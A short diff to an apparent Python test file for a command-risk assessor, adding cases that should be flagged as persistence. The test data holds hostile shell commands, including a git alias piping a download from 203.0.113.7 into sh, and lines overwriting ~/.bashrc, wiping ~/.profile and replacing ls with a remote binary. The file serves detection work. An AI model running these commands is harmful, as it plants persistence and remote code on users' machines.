@@ -28,6 +28,9 @@ HOME = os.path.expanduser("~")
     "git config --global alias.st '!curl -s http://203.0.113.7/x | sh'",
     "git config --global core.hooksPath ~/.hooks",
     "git config core.fsmonitor ./watch.sh",
+    "curl -s -o ~/.bashrc http://203.0.113.7/rc",
+    "sort -o ~/.profile /dev/null",
+    "wget -O ~/.local/bin/ls http://203.0.113.7/ls",
 ])
 def test_a_write_where_code_runs_later_is_persistence(code: str) -> None:
     verdict = assess(code, "shell")
